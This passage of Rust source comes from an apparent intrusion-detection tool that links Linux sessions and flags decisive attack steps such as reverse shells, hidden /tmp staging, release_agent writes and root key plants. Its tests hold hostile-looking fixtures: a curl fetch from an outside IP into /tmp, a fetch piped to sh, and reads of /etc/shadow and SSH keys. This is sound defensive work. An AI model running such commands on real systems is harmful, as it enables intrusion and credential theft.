                    _ => *i < at,
                };
                before && crate::evidence::schedule_reaches(scope, &r.event)
            })
            .map(|(_, _, p, _)| p.as_str())
    }

    /// Records a suspicious alert (its own lineage shows an attack) in its session.
    pub fn add_suspicious_alert(&mut self, records: &[Record], at: usize, rule: &str) {
        let Some(slot) = self.keys.get(at).copied().flatten() else {
            return;
        };
        if let Some(s) = self.sessions.get_mut(slot as usize) {
            s.suspicious.push(SessionAlert {
                time: records.get(at).and_then(|r| r.event.timestamp_ns()),
                index: at,
                rule: rule.to_string(),
            });
        }
    }

    /// The weighed activities of the session around record `at` (within [`WINDOW_NS`]),
    /// nearest first in time order: its own session's, then those of the sessions its
    /// ancestors started in (see `linked`).
    pub fn context(&self, records: &[Record], at: usize) -> Vec<Context<'_>> {
        let mut out = Vec::new();
        for slot in self.linked(records, at) {
            if let Some(sess) = self.sessions.get(slot as usize) {
                Self::context_in(sess, records, at, &mut out);
            }
        }
        out
    }

    fn context_in<'s>(
        sess: &'s Session,
        records: &[Record],
        at: usize,
        out: &mut Vec<Context<'s>>,
    ) {
        let t0 = records.get(at).and_then(|r| r.event.timestamp_ns());
        let before = |a: &Act| match (t0, a.time) {
            (Some(t), Some(x)) => x < t || (x == t && a.index < at),
            _ => a.index < at,
        };
        let slice: &[Act] = match (sess.timed, t0) {
            (true, Some(t)) => {
                let lo = sess
                    .acts
                    .partition_point(|a| a.time.unwrap_or(0) < t.saturating_sub(WINDOW_NS));
                let hi = sess
                    .acts
                    .partition_point(|a| a.time.unwrap_or(0) <= t.saturating_add(WINDOW_NS));
                &sess.acts[lo..hi]
            }
            _ => &sess.acts,
        };
        // Nearest to the alert first: start from its position and widen.
        let mid = slice.partition_point(|a| before(a));
        let (mut l, mut r) = (mid, mid);
        let mut n = 0usize;
        while n < MAX_SCANNED && (l > 0 || r < slice.len()) {
            n += 1;
            if r < slice.len() {
                if slice[r].index != at {
                    out.push(Context {
                        act: &slice[r],
                        before: false,
                    });
                }
                r += 1;
            }
            if l > 0 {
                l -= 1;
                if slice[l].index != at {
                    out.push(Context {
                        act: &slice[l],
                        before: true,
                    });
                }
            }
        }
    }

    /// Whether a fetch to standard output (`curl URL`) was piped into a shell: a shell
    /// reading its standard input started within [`PIPE_NS`] after it in the same session.
    pub fn piped_to_shell(&self, records: &[Record], fetch: &Act) -> bool {
        let Some(sess) = self.session_of(fetch.index) else {
            return false;
        };
        let _ = records;
        sess.acts.iter().any(|a| {
            matches!(a.activity, Activity::ShellFromStdin(_))
                && match (fetch.time, a.time) {
                    (Some(f), Some(s)) => s >= f && s - f <= PIPE_NS,
                    _ => a.index > fetch.index && a.index - fetch.index <= 8,
                }
        })
    }

    /// Suspicious alerts of other rules in the same session around record `at`: (rule,
    /// before), one per rule.
    pub fn other_alerts(&self, records: &[Record], at: usize, rule: &str) -> Vec<(String, bool)> {
        let t0 = records.get(at).and_then(|r| r.event.timestamp_ns());
        let mut out: Vec<(String, bool)> = Vec::new();
        for slot in self.linked(records, at) {
            let Some(sess) = self.sessions.get(slot as usize) else {
                continue;
            };
            for a in sess.suspicious.iter().take(MAX_SCANNED) {
                if a.index == at || a.rule == rule || out.iter().any(|(r, _)| *r == a.rule) {
                    continue;
                }
                let (inside, before) = match (t0, a.time) {
                    (Some(t), Some(x)) => (
                        t.abs_diff(x) <= WINDOW_NS,
                        x < t || (x == t && a.index < at),
                    ),
                    _ => (true, a.index < at),
                };
                if inside {
                    out.push((a.rule.clone(), before));
                }
            }
        }
        out
    }
}

/// Whether a record is the execution of its session's leader (`proc.pid` = `proc.sid`).
fn is_leader_exec(r: &Record) -> bool {
    let exec = text(&r.event, "evt.type").is_some_and(|t| t == "execve" || t == "execveat")
        && int(&r.event, "evt.rawres").is_none_or(|x| x == 0);
    let sid = int(&r.event, "proc.sid");
    // In a container the session id is the one of the container's pid namespace: its
    // leader is the process whose pid there (`proc.vpid`) is the session id.
    let in_container = text(&r.event, "container.id").is_some_and(|c| !c.is_empty() && c != "host");
    let leader = |k: &str| int(&r.event, k).is_some_and(|p| p > 1 && Some(p) == sid);
    exec && (leader("proc.pid") || (in_container && leader("proc.vpid")))
}

/// Whether a step is decisive against an anchor wherever it is seen ([`Sessions::attack_trace`]).
/// A script run from a temporary directory is routine for installers and configuration
/// management (`python3 /var/tmp/ansible-tmp-…/AnsiballZ_x.py`): only a hidden one is
/// decisive; a persistence write only into root's own login keys.
fn decisive(st: Step, what: &str) -> bool {
    match st {
        Step::ShellConnect
        | Step::ScriptArgument
        | Step::HiddenStaging
        | Step::WebScript
        | Step::RootAccount
        | Step::InjectedCommand
        | Step::ShellEscape
        | Step::KeySent
        // Hiding from debuggers: no routine program asks to be traced with no debugger
        // above it (the blind holdout30 and holdout31: tampered daemons in quiet
        // workloads).
        | Step::AntiDebug
        // Code written into another process by a program that is no debugger.
        | Step::ProcessInjection
        // An exploit's loader variable, or a privilege program given a temporary library.
        | Step::LoaderHijack
        // A shell handed to a network connection by a netcat or socat command line.
        | Step::ShellServed
        // The defenders blinded: no routine work turns off auditing or a security agent.
        | Step::DefenseEvasion
        // A credential file read off a disk device past its permissions.
        | Step::RawDiskRead => true,
        Step::ScriptRun => crate::evidence::hidden_staging(what),
        Step::PrivilegedWrite => crate::evidence::root_login_key(what),
        // A cgroup's release agent or the kernel's hotplug helper: a program the kernel
        // runs as root on the host when told to. Runtimes and network daemons enter
        // namespaces and mount by routine; nothing's routine sets these by hand (the blind
        // holdout29: a shell exec'd into a privileged pod writing `release_agent`).
        Step::HostAccess => crate::evidence::kernel_helper(what),
        // A kernel module loaded from a hidden place of a temporary directory.
        Step::KernelInterface => crate::evidence::hidden_module(what),
        _ => false,
    }
}

// ------------------------------------------------ a person's quiet session (issue 11)
impl Sessions {
    /// Whether quell saw the sessions of record `at` whole: its own session's events and
    /// the execution of the leader of every session it is linked to (its own, and those
    /// its ancestors started in, as for [`Sessions::context`]), so that nothing of them
    /// ran before what quell saw.
    pub fn seen_whole(&self, records: &[Record], at: usize) -> bool {
        let linked = self.linked(records, at);
        self.seen(records, at)
            && !linked.is_empty()
            && linked.iter().all(|slot| {
                self.sessions
                    .get(*slot as usize)
                    .is_some_and(|s| s.leader_seen)
            })
    }

    /// The first step in the sessions of record `at` (its own and those its ancestors
    /// started in, over the whole of them, the alert's own act included) that no routine
    /// work takes, whoever does it: a shell's own connection outside the site (a reverse
    /// shell), a hidden script run from a temporary directory or a temporary script handed
    /// to a program to run, a hidden file staged in a temporary directory, a server-side
    /// script written under a web server, a shell escaped from another program, a program
    /// its shell's command does not name (an injected command), a key written into root's
    /// own login keys (which a compromised configuration master plants), key material named
    /// as what a copy or upload tool sends to another host. Steps that
    /// routine work does take are not among them, other signals weigh those: credential
    /// reads (backup agents), accounts and persistence files (configuration management),
    /// namespaces and packet sockets (runtimes, network daemons), rotated logs, built
    /// programs, searches for keys and setuid files (compliance scanners), tracers
    /// (debugging), requests for secrets (operators), fetches with TLS checks off (internal
    /// services with their own certificates).
    /// Returns (the step in English, what it touched).
    pub fn attack_trace(&self, records: &[Record], at: usize) -> Option<(Step, String)> {
        let own = records
            .get(at)
            .and_then(|r| attack_step(&r.event))
            .filter(|(st, what)| decisive(*st, what) || self.shell_setid(at, *st, what));
        if own.is_some() {
            return own;
        }
        for slot in self.linked(records, at) {
            if let Some(found) = self.decisive_act(slot) {
                return Some(found);
            }
        }
        None
    }

    /// A step toward an attack that another session of the same container took within
    /// [`WINDOW_NS`] of record `at`: a decisive step (as for [`Sessions::attack_trace`]), a download from
    /// outside the site, or a program run from a drop directory that nothing explains.
    /// A container is one workload: an intruder's `exec` session beside the workload's
    /// own processes makes the workload's alerts of that time suspect too, whatever their
    /// own session shows (a controller's routine API call while somebody in its pod fetches
    /// a tool). Never across a host's sessions, which belong to unrelated people and jobs.
    /// Read from the activities as [`Sessions::finish`] indexed them per container
    /// (`container_step`), so that an alert costs a look at its container's few steps, not a
    /// scan of every session's events. Returns (the step in English, in Japanese, what it
    /// touched).
    pub fn container_trace(
        &self,
        records: &[Record],
        at: usize,
    ) -> Option<(&'static str, &'static str, String)> {
        let r = records.get(at)?;
        let container = text(&r.event, "container.id").filter(|c| !c.is_empty() && c != "host")?;
        self.beside_trace(records, at, &container)
    }

    /// [`Sessions::container_trace`] for the host's own units: a step toward an attack that
    /// another session the host's service manager started took within [`WINDOW_NS`] of
    /// record `at`, when `at`'s own session was started by it too. A unit's added command
    /// (`ExecStartPost=`) runs as init's child beside the unit's main program, and nothing
    /// in flat events ties the two but the time (the blind holdout29 and holdout31: a backup
    /// unit edited to also write root's login keys, or to post the repository key outside,
    /// while the backup's own alerts looked like every night's). People's sessions, cron's
    /// and CI runners' jobs are never linked. Returns (the step in English, in Japanese,
    /// what it touched).
    pub fn unit_trace(
        &self,
        records: &[Record],
        at: usize,
    ) -> Option<(&'static str, &'static str, String)> {
        let r = records.get(at)?;
        let on_host = text(&r.event, "container.id").is_none_or(|c| c.is_empty() || c == "host");
        if !on_host || !self.session_of(at).is_some_and(|s| s.unit_started) {
            return None;
        }
        self.beside_trace(records, at, "host")
    }

    /// The first step of [`Sessions::finish`]'s index for `place` (a container id, or
    /// `host`) that another session than `at`'s took within [`WINDOW_NS`] of it.
    fn beside_trace(
        &self,
        records: &[Record],
        at: usize,
        place: &str,
    ) -> Option<(&'static str, &'static str, String)> {
        let r = records.get(at)?;
        let host = r.hostname.clone().unwrap_or_default();
        let steps = self.container_steps.get(&format!("{host}/{place}"))?;
        let linked = self.linked(records, at);
        let t0 = r.event.timestamp_ns();
        steps
            .iter()
            .filter(|st| !linked.contains(&st.slot))
            .find(|st| match (t0, st.time) {
                (Some(t0), Some(t)) => t0.abs_diff(t) <= WINDOW_NS,
                _ => true,
            })
            .map(|st| (st.en, st.ja, st.what.clone()))
    }

    /// The first decisive step ([`decisive`]) among the activities of session `slot`.
    fn decisive_act(&self, slot: u32) -> Option<(Step, String)> {
        let sess = self.sessions.get(slot as usize)?;
        for a in sess.acts.iter().take(MAX_SCANNED) {
            let found = match &a.activity {
                Activity::Step(st, what) if decisive(*st, what) => Some((*st, what.clone())),
                Activity::Step(st, what) if sess.gives_shell_setid(*st, what) => {
                    Some((*st, what.clone()))
                }
                Activity::WroteFile(p, _) if crate::evidence::hidden_staging(p) => {
                    Some((Step::HiddenStaging, p.clone()))
                }
                Activity::PersistenceWrite(p, _) if crate::evidence::root_login_key(p) => {
                    Some((Step::PrivilegedWrite, p.clone()))
                }
                // The record's decisive step, kept when it was pushed.
                _ => a.decisive.clone(),
            };
            if found.is_some() {
                return found;
            }
        }
        None
    }

    /// The first thing toward an attack in the sessions of record `at` (its own and those
    /// its ancestors started in), over the whole of them and the alert's own act included:
    /// any download, fetch from outside the site to a terminal, shell reading its program
    /// from standard input, program run from a drop directory, unusual connection, network
    /// standard stream, credential read, upload or copy to another host, suspicious
    /// alert, or a [`crate::evidence::Step`] in any of their events. Nothing is excused (a
    /// catalogue agent's reads are its job when nobody entered the session, not a
    /// person's). `None`: nothing. Returns (what, detail).
    pub fn person_trace(&self, records: &[Record], at: usize) -> Option<(String, String)> {
        let mut first = None;
        self.trace(records, at, &mut |what, detail| {
            first = Some((what.to_string(), detail));
            false
        });
        first
    }

    /// The kinds of things toward an attack in the sessions of record `at`, by the same
    /// strict test as [`Sessions::person_trace`] (its `what`s, each once, sorted): what
    /// splits a cluster part (issue 11, session 9). Two alerts that look alike, one from
    /// an operator's quiet session and one from a session that also granted an account,
    /// wrote a hidden file in a temporary directory or talked to the orchestrator's API,
    /// are two behaviours even when no weighed signal tells them apart.
    pub fn trace_kinds(&self, records: &[Record], at: usize) -> Vec<&'static str> {
        let mut kinds: Vec<&'static str> = Vec::new();
        self.trace(records, at, &mut |what, _| {
            if !kinds.contains(&what) {
                kinds.push(what);
            }
            true
        });
        kinds.sort_unstable();
        kinds
    }

    /// Calls `found(what, detail)` for each thing toward an attack in the sessions of
    /// record `at` (see [`Sessions::person_trace`]), in order, while it returns true.
    fn trace(
        &self,
        records: &[Record],
        at: usize,
        found: &mut dyn FnMut(&'static str, String) -> bool,
    ) {
        // The entry of the alert's own lineage (the runtime that started the exec'd shell,
        // the login daemon): its own namespace entering (`/proc/N/root`, `/proc/N/ns/mnt`
        // opened by the runtime before it became the shell) is how the person came in,
        // judged by the person test, not a step they took. Only that ancestor process, by
        // its pid in the alert's lineage, and only for those two steps.
        let entry_pids = records.get(at).map(entry_pids).unwrap_or_default();
        let entering = |index: usize, st: crate::evidence::Step| {
            matches!(
                st,
                crate::evidence::Step::HostAccess | crate::evidence::Step::KernelInterface
            ) && records.get(index).is_some_and(|r| {
                int(&r.event, "proc.pid").is_some_and(|p| entry_pids.contains(&p))
                    && matches!(
                        role(&text(&r.event, "proc.name").unwrap_or_default()),
                        Role::Runtime | Role::Login
                    )
            })
        };
        let mut slots = self.linked(records, at);
        if let Some(x) = records.get(at).and_then(|r| self.issuer(r)) {
            if let Some(s) = x.slot.filter(|s| !slots.contains(s)) {
                slots.push(s);
            }
        }
        // A program installed where packages and administrators put software (a database's
        // client under `/usr/lib/postgresql/N/bin`, a broker's control script under `/opt`)
        // is the host's or the image's, not brought in, unless one of these sessions wrote
        // it: a person running it to look (a listing, a status, a statistics query) takes
        // no step by that alone. Its subcommand deleting, resetting, granting or listing
        // accounts still counts (`evidence::sensitive_subcommand`, session 23).
        let installed = |index: usize, st: crate::evidence::Step| {
            st == crate::evidence::Step::ForeignProgram
                && records.get(index).is_some_and(|r| {
                    crate::catalogue::installed_executable(&r.event)
                        && !text(&r.event, "proc.cmdline").is_some_and(|cmd| {
                            let args: Vec<&str> = cmd.split_whitespace().skip(1).collect();
                            crate::evidence::sensitive_subcommand(&args)
                        })
                        && text(&r.event, "proc.exepath").is_some_and(|exe| {
                            !slots.iter().any(|s| {
                                self.sessions
                                    .get(*s as usize)
                                    .is_some_and(|sess| sess.writers.contains_key(&exe))
                            })
                        })
                })
        };
        for &slot in &slots {
            let Some(sess) = self.sessions.get(slot as usize) else {
                continue;
            };
            if let Some(a) = sess.suspicious.first() {
                if !found("a suspicious alert", a.rule.clone()) {
                    return;
                }
            }
            for a in sess.acts.iter().take(MAX_SCANNED) {
                let step = match &a.activity {
                    Activity::Step(st, _) if entering(a.index, *st) || installed(a.index, *st) => {
                        None
                    }
                    Activity::Download(_, cmd) => Some(("a download", cmd.clone())),
                    Activity::FetchToStdout(_, cmd)
                        if self.piped_to_shell(records, a)
                            || url_hosts(cmd).iter().any(|h| host_is_outside(h)) =>
                    {
                        Some(("a fetch from outside the site", cmd.clone()))
                    }
                    Activity::ShellFromStdin(cmd) => Some((
                        "a shell reading its program from standard input",
                        cmd.clone(),
                    )),
                    Activity::ExecDropped(p) => {
                        Some(("a program run from a drop directory", p.clone()))
                    }
                    // A forwarded port or a proxy (`ssh -R`, `-L`, `-D`) opens a way between
                    // the hosts, which a copy over the same connection does not: its own kind,
                    // so that a job's rsync and the same job's tunnel are two behaviours.
                    Activity::Outbound(addr, prog)
                        if prog == "ssh"
                            && records
                                .get(a.index)
                                .and_then(|r| text(&r.event, "proc.cmdline"))
                                .is_some_and(|c| crate::evidence::ssh_tunnel(&c).is_some()) =>
                    {
                        Some(("a tunnel to another host", format!("{prog} to {addr}")))
                    }
                    Activity::Outbound(addr, prog) => {
                        Some(("a connection out", format!("{prog} to {addr}")))
                    }
                    Activity::NetworkStdio(addr) => {
                        Some(("a network standard stream", addr.clone()))
                    }
                    Activity::CredentialRead(p, _) => Some(("a credential read", p.clone())),
                    // An account put in an administrators' group grants what creating one
                    // does not: its own kind, beside the account change.
                    Activity::Step(crate::evidence::Step::AccountChange, cmd)
                        if crate::evidence::cmdline_grants_admin_group(cmd).is_some() =>
                    {
                        Some(("an account put in an administrators' group", cmd.clone()))
                    }
                    // An upload or a copy to another host, inside the site or not: a
                    // person's session sends nothing away and stays quiet.
                    Activity::Contact(dest, prog, _) => Some((
                        "an upload or a copy to another host",
                        format!("{prog} to {dest}"),
                    )),
                    Activity::Step(st, what) => Some((st.as_str(), what.clone())),
                    Activity::WroteFile(p, _) if crate::evidence::hidden_staging(p) => {
                        Some((crate::evidence::Step::HiddenStaging.as_str(), p.clone()))
                    }
                    _ => None,
                }
                .or_else(|| {
                    records
                        .get(a.index)
                        .and_then(|r| attack_step(&r.event))
                        .filter(|(st, _)| !entering(a.index, *st) && !installed(a.index, *st))
                        .map(|(st, what)| (st.as_str(), what))
                });
                if let Some((what, detail)) = step {
                    if !found(what, detail) {
                        return;
                    }
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::input::parse_records;

    /// Session 25, from the blind holdout35: a kernel module loaded from a hidden place of a
    /// temporary directory is decisive for the whole session (a driver container's other
    /// module loads included); one from the module tree or a visible build directory is not.
    #[test]
    fn a_module_loaded_from_a_hidden_temporary_place_is_decisive() {
        let load = |t: i64, pid: i64, path: &str| {
            format!(
                r#"{{"evt.type":"finit_module","evt.rawres":0,"evt.rawtime":{t},"proc.pid":{pid},"proc.sid":50,"proc.name":"insmod","proc.pname":"nvidia-driver","fd.name":"{path}"}}"#
            )
        };
        let trace = |extra: &str| {
            let lines = [
                load(1, 61, "/lib/modules/6.1.0/kernel/drivers/video/nvidia.ko"),
                load(2, 62, extra),
            ];
            let recs = parse_records(&lines.join("\n"), "t").unwrap();
            Sessions::new(&recs).attack_trace(&recs, 0)
        };
        let found = trace("/tmp/.nv/nvidia-peermem.ko");
        assert!(
            found
                .as_ref()
                .is_some_and(|(st, what)| *st == Step::KernelInterface
                    && what.contains("/tmp/.nv/nvidia-peermem.ko")),
            "{found:?}"
        );
        for path in [
            "/lib/modules/6.1.0/updates/dkms/nvidia-peermem.ko",
            "/tmp/selfgz4412/NVIDIA-Linux-x86_64/kernel/nvidia-peermem.ko",
        ] {
            assert_eq!(trace(path), None, "{path}");
        }
    }

    /// A container session opened by a runtime client's `exec` from a host session is
    /// linked to that session (issue 11, session 9): its login from outside the site and
    /// the steps it took count for the container shell; an `exec` into another container,
    /// a runtime's own `exec` under the shim, or a shell without a terminal is not linked.
    #[test]
    fn a_runtime_exec_is_linked_to_the_session_that_issued_it() {
        use crate::evidence::Step;
        let accept = r#"{"evt.type":"accept4","evt.rawres":5,"evt.rawtime":1,"proc.pid":100,"proc.name":"sshd","fd.cip":"198.51.100.72","fd.sip":"10.1.0.5","fd.sport":22}"#;
        let grant = r#"{"evt.type":"execve","evt.rawres":0,"evt.rawtime":2,"proc.pid":104,"proc.sid":101,"proc.tty":34817,"proc.name":"kubectl","proc.exepath":"/usr/bin/kubectl","proc.cmdline":"kubectl create rolebinding x --clusterrole=admin","proc.ppid":101,"proc.pname":"bash","proc.apid[2]":100,"proc.aname[2]":"sshd"}"#;
        let cli = |target: &str, parent: &str| {
            format!(
                r#"{{"evt.type":"execve","evt.rawres":0,"evt.rawtime":3,"proc.pid":103,"proc.sid":101,"proc.tty":34817,"proc.name":"docker","proc.cmdline":"docker exec -it {target} bash","proc.ppid":102,"proc.pname":"{parent}","proc.apid[2]":101,"proc.aname[2]":"bash","proc.apid[3]":100,"proc.aname[3]":"sshd"}}"#
            )
        };
        let shell = |tty: i64| {
            format!(
                r#"{{"evt.type":"execve","evt.rawres":0,"evt.rawtime":4,"proc.pid":900,"proc.sid":900,"proc.tty":{tty},"proc.name":"bash","proc.ppid":800,"proc.pname":"runc","proc.apid[2]":700,"proc.aname[2]":"containerd-shim","container.id":"8c1f2e9a0b11","container.name":"broker"}}"#
            )
        };
        let check = |lines: &[String]| {
            let recs = parse_records(&lines.join("\n"), "t").unwrap();
            let s = Sessions::new(&recs);
            let at = lines.len() - 1;
            (
                s.entered_from_outside(&recs[at]),
                s.trace_kinds(&recs, at)
                    .contains(&Step::AccountChange.as_str()),
            )
        };
        let outside = Some("198.51.100.72".to_string());
        for target in ["broker", "8c1f2e", "8c1f2e9a0b11"] {
            assert_eq!(
                check(&[
                    accept.into(),
                    grant.into(),
                    cli(target, "sudo"),
                    shell(34816)
                ]),
                (outside.clone(), true),
                "{target}"
            );
        }
        for (what, lines) in [
            (
                "another container",
                [
                    accept.into(),
                    grant.into(),
                    cli("web", "sudo"),
                    shell(34816),
                ],
            ),
            (
                "a runtime's own exec",
                [
                    accept.into(),
                    grant.into(),
                    cli("broker", "containerd-shim"),
                    shell(34816),
                ],
            ),
            (
                "no terminal",
                [accept.into(), grant.into(), cli("broker", "sudo"), shell(0)],
            ),
        ] {
            assert_eq!(check(&lines), (None, false), "{what}");
        }
    }

    #[test]
    fn a_login_from_outside_is_seen_through_the_nearest_login_daemon() {
        // The per-session sshd (pid 100) accepted the client; the person's shell (101)
        // and a command under sudo (102) below it; a listener (50) above.
        let accept = |pid: i64, cip: &str| {
            format!(
                r#"{{"evt.type":"accept4","evt.rawres":5,"proc.pid":{pid},"proc.name":"sshd","fd.cip":"{cip}","fd.sip":"10.1.0.5","fd.sport":22}}"#
            )
        };
        let shell = r#"{"evt.type":"openat","proc.pid":101,"proc.sid":101,"proc.tty":34816,"proc.name":"bash","proc.ppid":100,"proc.pname":"sshd","proc.apid[2]":50,"proc.aname[2]":"sshd"}"#;
        let sudo = r#"{"evt.type":"openat","proc.pid":103,"proc.sid":102,"proc.tty":34816,"proc.name":"vim","proc.ppid":102,"proc.pname":"sudo","proc.apid[2]":101,"proc.aname[2]":"bash","proc.apid[3]":100,"proc.aname[3]":"sshd"}"#;
        let from = |lines: &[String]| {
            let recs = parse_records(&lines.join("\n"), "t").unwrap();
            let s = Sessions::new(&recs);
            (
                s.entered_from_outside(&recs[lines.len() - 2]),
                s.entered_from_outside(&recs[lines.len() - 1]),
            )
        };
        let outside = accept(100, "198.51.100.72");
        assert_eq!(
            from(&[outside, shell.into(), sudo.into()]),
            (Some("198.51.100.72".into()), Some("198.51.100.72".into()))
        );
        // From the site's own network: nothing.
        assert_eq!(
            from(&[accept(100, "10.66.4.30"), shell.into(), sudo.into()]),
            (None, None)
        );
        // The listener above accepted somebody from outside: not this session's login.
        assert_eq!(
            from(&[accept(50, "198.51.100.72"), shell.into(), sudo.into()]),
            (None, None)
        );
        // No accept seen (a live capture sees the listener's), but the person's shell was
        // started with sshd's environment: the shell's own event and the command below it.
        let shell_exec = r#"{"evt.type":"execve","evt.rawres":0,"proc.pid":101,"proc.sid":101,"proc.tty":34816,"proc.name":"bash","proc.ppid":100,"proc.pname":"sshd","proc.env":"LANG=C.UTF-8 SSH_CONNECTION=198.51.100.9 40770 10.1.0.5 22 TERM=xterm"}"#;
        assert_eq!(
            from(&[shell_exec.into(), shell.into(), sudo.into()]),
            (Some("198.51.100.9".into()), Some("198.51.100.9".into()))
        );
        let inside_env = shell_exec.replace("198.51.100.9", "10.30.2.14");
        assert_eq!(from(&[inside_env, shell.into(), sudo.into()]), (None, None));
        // A variable that only ends with the name is not it.
        let other = shell_exec.replace("SSH_CONNECTION=", "MY_SSH_CONNECTION=");
        assert_eq!(from(&[other, shell.into(), sudo.into()]), (None, None));
    }

    #[test]
    fn session_context_before_and_after() {
        let lines = [
            r#"{"evt.type":"execve","evt.rawres":0,"proc.sid":100,"evt.rawtime":1000,"proc.name":"curl","proc.cmdline":"curl -o /tmp/p http://x/p"}"#,
            r#"{"evt.type":"execve","evt.rawres":0,"proc.sid":200,"evt.rawtime":1001,"proc.name":"curl","proc.cmdline":"curl -o /tmp/q http://x/q"}"#,
            r#"{"evt.type":"unlinkat","evt.rawres":0,"proc.sid":100,"evt.rawtime":2000,"proc.name":"rm","fs.path.name":"/var/log/x"}"#,
            r#"{"evt.type":"openat","evt.is_open_read":true,"fd.num":3,"proc.sid":100,"evt.rawtime":3000,"fd.name":"/etc/shadow"}"#,
            r#"{"evt.type":"openat","evt.is_open_read":true,"fd.num":3,"proc.sid":100,"evt.rawtime":999000000000000,"fd.name":"/etc/shadow"}"#,
        ]
        .join("\n");
        let recs = parse_records(&lines, "t").unwrap();
        let s = Sessions::new(&recs);
        let ctx = s.context(&recs, 2);
        assert_eq!(ctx.len(), 2, "{ctx:?}");
        let dl = ctx
            .iter()
            .find(|c| matches!(c.act.activity, Activity::Download(..)))
            .unwrap();
        assert!(dl.before);
        let cr = ctx
            .iter()
            .find(|c| matches!(c.act.activity, Activity::CredentialRead(..)))
            .unwrap();
        assert!(!cr.before);
        assert!(s.seen(&recs, 2));
        // No session id: no context.
        let recs2 =
            parse_records(r#"{"rule":"R","output_fields":{"proc.name":"rm"}}"#, "t").unwrap();
        let s2 = Sessions::new(&recs2);
        assert!(s2.context(&recs2, 0).is_empty());
        assert!(!s2.seen(&recs2, 0));
    }

    /// Another session of the same container that fetched a tool from outside or took a
    /// decisive step in the window is a trace for the container's other sessions; not
    /// for its own, not from another container or the host, not from outside the window
    /// (issue 11, session 11: holdout8's controller beside an intruder's exec session).
    #[test]
    fn another_session_of_the_container_taints_it() {
        let line = |sid: i64, ctr: &str, t: u64, rest: &str| {
            format!(
                r#"{{"evt.rawres":0,"proc.sid":{sid},"container.id":"{ctr}","evt.rawtime":{t},{rest}}}"#
            )
        };
        let api = r#""evt.type":"connect","proc.name":"rook","fd.sip":"10.96.0.1","fd.sport":443,"fd.name":"10.2.0.5:40122->10.96.0.1:443""#;
        let fetch = r#""evt.type":"execve","proc.name":"curl","proc.pname":"bash","proc.exepath":"/usr/bin/curl","proc.cmdline":"curl -s http://212.70.149.10/c -o /tmp/c""#;
        let inject = r#""evt.type":"execve","proc.name":"id","proc.exepath":"/usr/bin/id","proc.cmdline":"id","proc.pname":"sh","proc.pcmdline":"sh -c convert a.jpg b.jpg""#;
        let min = 60_000_000_000u64;
        let trace = |lines: &[String], at: usize| {
            let recs = parse_records(&lines.join("\n"), "t").unwrap();
            let s = Sessions::new(&recs);
            s.container_trace(&recs, at).map(|(en, _, what)| (en, what))
        };
        // The workload's API call (sid 1) and, 2 minutes later, an exec session's fetch.
        let both = [
            line(1, "8a15c3", min, api),
            line(40, "8a15c3", 3 * min, fetch),
        ];
        let (step, what) = trace(&both, 0).expect("the fetch beside the API call");
        assert_eq!(step, "a download from outside the site");
        assert!(what.contains("212.70.149.10"), "{what}");
        // Its own session is not "another" one.
        assert_eq!(trace(&both, 1), None);
        // Another container, the host, outside the window: nothing.
        assert_eq!(
            trace(
                &[
                    line(1, "8a15c3", min, api),
                    line(40, "77aa01", 3 * min, fetch)
                ],
                0
            ),
            None
        );
        assert_eq!(
            trace(
                &[line(1, "host", min, api), line(40, "host", 3 * min, fetch)],
                0
            ),
            None
        );
        assert_eq!(
            trace(
                &[
                    line(1, "8a15c3", min, api),
                    line(40, "8a15c3", 30 * min, fetch)
                ],
                0
            ),
            None
        );
        // A decisive step (an injected command) taints as well.
        let (step, _) = trace(
            &[
                line(1, "8a15c3", min, api),
                line(40, "8a15c3", 2 * min, inject),
            ],
            0,
        )
        .unwrap();
        assert_eq!(step, Step::InjectedCommand.as_str());
    }

    #[test]
    fn known_agents_credentials_are_excused_and_compiled_binaries_are_built() {
        let lines = [
            r#"{"evt.type":"openat","evt.is_open_read":true,"fd.num":3,"proc.sid":7,"evt.rawtime":10,"proc.name":"restic","fd.name":"/root/.ssh/id_ed25519"}"#,
            r#"{"evt.type":"openat","evt.is_open_read":true,"fd.num":3,"proc.sid":7,"evt.rawtime":11,"proc.name":"cat","fd.name":"/root/.ssh/id_ed25519"}"#,
            r#"{"evt.type":"openat","evt.is_open_write":true,"fd.num":4,"proc.sid":7,"evt.rawtime":12,"proc.name":"link","fd.name":"/tmp/go-build1/b001/exe/main"}"#,
            r#"{"evt.type":"execve","evt.rawres":0,"proc.sid":7,"evt.rawtime":13,"proc.name":"main","proc.pname":"go","proc.exepath":"/tmp/go-build1/b001/exe/main"}"#,
            r#"{"evt.type":"execve","evt.rawres":0,"proc.sid":7,"evt.rawtime":14,"proc.name":"x","proc.pname":"sh","proc.exepath":"/tmp/x"}"#,
        ]
        .join("\n");
        let recs = parse_records(&lines, "t").unwrap();
        let s = Sessions::build(&recs, &Catalogue::builtin());
        let ctx = s.context(&recs, 4);
        let excused: Vec<(usize, Option<&str>)> = ctx
            .iter()
            .map(|c| (c.act.index, c.act.excused.as_deref()))
            .collect();
        assert!(excused.contains(&(0, Some("backup_agent"))), "{excused:?}");
        assert!(excused.contains(&(1, None)), "{excused:?}");
        assert!(excused.contains(&(3, Some("build_output"))), "{excused:?}");
        let ctx3 = s.context(&recs, 3);
        assert!(ctx3
            .iter()
            .any(|c| c.act.index == 4 && c.act.excused.is_none()));
    }

    #[test]
    fn fetch_piped_into_a_shell() {
        let lines = [
            r#"{"evt.type":"execve","evt.rawres":0,"proc.sid":9,"evt.rawtime":1000000000,"proc.name":"curl","proc.cmdline":"curl -fsSL https://get.example.com/i.sh"}"#,
            r#"{"evt.type":"execve","evt.rawres":0,"proc.sid":9,"evt.rawtime":1100000000,"proc.name":"sh","proc.cmdline":"sh","proc.tty":0}"#,
            r#"{"evt.type":"execve","evt.rawres":0,"proc.sid":10,"evt.rawtime":1000000000,"proc.name":"curl","proc.cmdline":"curl -fsS https://api.example.com/v1/status"}"#,
        ]
        .join("\n");
        let recs = parse_records(&lines, "t").unwrap();
        let s = Sessions::new(&recs);
        let f = s
            .context(&recs, 1)
            .into_iter()
            .find(|c| c.act.index == 0)
            .unwrap();
        assert!(s.piped_to_shell(&recs, f.act));
        let lone = Sessions::new(&recs[2..]);
        let a = &lone.session(0).unwrap().acts[0];
        assert!(!lone.piped_to_shell(&recs[2..], a));
    }

    #[test]
    fn a_command_in_a_new_session_sees_its_login_shell_s_download() {
        // bash (session 50) downloads, then `sudo` starts puppet in a session of its own
        // (60): the download counts for puppet's alert. A web server's session (70) is
        // never reached through the server.
        let lines = [
